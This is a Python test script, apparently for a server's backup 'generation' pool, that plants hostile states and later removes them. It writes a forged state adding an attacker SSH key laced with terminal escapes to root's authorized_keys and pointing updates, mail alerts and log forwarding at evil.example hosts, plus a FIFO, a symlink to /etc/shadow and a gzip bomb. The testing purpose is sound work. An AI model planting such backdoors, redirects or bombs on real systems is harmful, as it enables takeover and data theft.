# SPDX-License-Identifier: Apache-2.0
"""Runs on the server as root: who had the drives meanwhile, and left states of their own on the pool.

    python3 hostile_drives.py power | special | remove

`power`: a newer state of another boot drive that lets its writer in, with words for a terminal in each name. `special`:
newer ones that are a pipe, a link and 1 GiB of zeroes in a megabyte. `remove` takes all of them away again. Prints the
numbers of the states.
"""

import hashlib
import os
import sys
import zlib
from pathlib import Path

from millrace.lifecycle.keep import generation_store
from millrace.lifecycle.keep.generation import pack
from millrace.lifecycle.keep.model import ManifestMember

POOL = Path("/srv/pool")
# far above those of the server, which must not count on from them
FIRST = 900_000
ESCAPE = "\x1b]0;owned\x07\x1b[2J"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG5vYm9keSBrbm93cyB0aGUgcHJpdmF0ZSBwYXJ0IQ== mallory" + ESCAPE
POWER = {
    "root/.ssh/authorized_keys": KEY.encode(),
    "home/admin/.ssh/authorized_keys": KEY.encode(),
    "etc/millrace/ssh-enabled": b"",
    "etc/millrace/update-keys.pgp": b"a key",
    "var/lib/millrace/update/source.json": b'{"url": "http://updates.evil.example/"}',
    "var/lib/millrace/alert/routes.json": b'{"routes": [{"host": "mail.evil.example"}]}',
    "etc/millrace/policy.toml": b'[journal]\nforward = "https://logs.evil.example"\n',
}


def main() -> None:
    where = generation_store.directory(POOL)
    made = {"power": power, "special": special, "remove": remove}[sys.argv[1]](where)
    print(*made)


def power(where: Path) -> list[int]:
    """Write a state that gives power, as a release of Millrace would write it."""
    newest = generation_store.newest(where)
    assert newest is not None, "the server has kept no state yet"
    contents = {**newest.generation.stored, **POWER}
    members = [member for member in newest.generation.manifest.members if member.path not in POWER]
    members += [
        ManifestMember(path=path, mode=0o4755, secret=False, size=len(data), sha256=hashlib.sha256(data).hexdigest())
        for path, data in POWER.items()
    ]
    changes = {"generation": FIRST, "writer": "f0" * 16, "host": f"evil{ESCAPE}", "members": members, "seal": None}
    manifest = newest.generation.manifest.model_copy(update=changes)
    _write(generation_store.file(where, FIRST), pack(manifest, contents))
    return [FIRST]


def special(where: Path) -> list[int]:
    """Put there what is no file, leads elsewhere, or grows when it is read."""
    os.mkfifo(generation_store.file(where, FIRST + 3), 0o600)
    generation_store.file(where, FIRST + 2).symlink_to("/etc/shadow")
    _write(generation_store.file(where, FIRST + 1), zeroes())
    return [FIRST + 3, FIRST + 2, FIRST + 1]


def zeroes() -> bytes:
    """Return the beginning of a gzip file of 1 GiB, of one compressed piece again and again: made in no time."""
    packer = zlib.compressobj(level=1, wbits=zlib.MAX_WBITS | 16)
    first, other = (packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    return first + other * 1023


def remove(where: Path) -> list[int]:
    """Remove what this program made."""
    mine = [number for number in generation_store.numbers(where) if number >= FIRST]
    for number in mine:
        generation_store.file(where, number).unlink()
    return mine


def _write(path: Path, data: bytes) -> None:
    path.touch(0o600)
    path.write_bytes(data)


if __name__ == "__main__":
    main()
